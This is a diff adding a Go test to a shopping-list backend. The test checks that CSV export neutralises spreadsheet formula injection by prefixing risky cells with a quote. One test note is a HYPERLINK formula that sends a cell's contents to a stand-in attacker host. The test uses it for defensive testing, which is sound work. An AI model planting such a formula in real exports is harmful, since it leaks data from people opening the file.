@@ -0,0 +1,49 @@
+package service_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"testing"
+
+	"github.com/samber/mo"
+	"github.com/stretchr/testify/require"
+
+	"go-backend/internal/backend/list"
+	"go-backend/internal/backend/shopmap"
+	"go-backend/pkg/id"
+)
+
+func TestExportCSVEscapesFormulas(t *testing.T) {
+	f := newFixture(t)
+	ctx := context.Background()
+
+	notes := []string{`=HYPERLINK("http://evil.example/?"&A1)`, "-2 if fresh", "2.5% fat"}
+	for i, note := range notes {
+		_, err := f.service.UpdateProductState(ctx, f.listID, f.ownerID(), f.products[i].ID, list.ProductStateOptions{
+			Status: list.StateStatusWaiting,
+			Note:   note,
+		})
+		require.NoError(t, err)
+	}
+
+	noMap := mo.None[id.ID[shopmap.ShopMap]]()
+
+	content, err := f.service.Export(ctx, f.listID, f.ownerID(), list.ExportFormatCsv, noMap)
+	require.NoError(t, err)
+
+	records, err := csv.NewReader(bytes.NewReader(content)).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, records, 4)
+
+	exported := map[string]string{}
+	for _, record := range records[1:] {
+		exported[record[2]] = record[len(record)-1]
+	}
+
+	require.Equal(t, map[string]string{
+		"milk":  `'=HYPERLINK("http://evil.example/?"&A1)`,
+		"bread": "'-2 if fresh",
+		"eggs":  "2.5% fat",
+	}, exported)
+}